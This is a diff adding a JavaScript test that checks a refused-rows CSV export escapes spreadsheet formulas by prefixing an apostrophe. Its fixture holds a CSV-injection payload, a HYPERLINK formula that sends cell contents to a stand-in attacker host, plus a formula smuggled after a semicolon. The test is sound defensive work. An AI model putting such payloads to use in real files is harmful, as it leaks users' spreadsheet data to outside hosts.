@@ -39,6 +39,17 @@ test('the refused rows download as a CSV an Indonesian spreadsheet opens: every 
     '9;;nama;"kemungkinan anak yang sama dengan ""Sari""; isi NIK"']);
 });
 
+test('a refused row naming a formula downloads as text, not a formula a spreadsheet runs', async () => {
+  installDom();
+  const { refusedCsv } = await import('../../static/pwa/js/online/imports.js');
+  // the child's name and a column heading as the file gave them, and a formula after the ";" a spreadsheet splits on
+  const rows = [{ row: 2, name: '=HYPERLINK("http://evil.example/?"&A1,"Klik")', errors: { '@SUM(A1)': ['harus L atau P'] } },
+    { row: 3, name: 'Ani; =1+1', errors: { JK: ['-'] } }];
+  assert.deepEqual(refusedCsv(rows).slice(1).trimEnd().split('\r\n').slice(1), [
+    `2;"'=HYPERLINK(""http://evil.example/?""&A1,""Klik"")";'@SUM(A1);harus L atau P`,
+    `3;"Ani;' =1+1";JK;'-`]);
+});
+
 test('the rows skipped as no child (totals lines) are listed from a check and from a refused import alike', async () => {
   installDom();
   const { skippedList } = await import('../../static/pwa/js/online/imports.js');
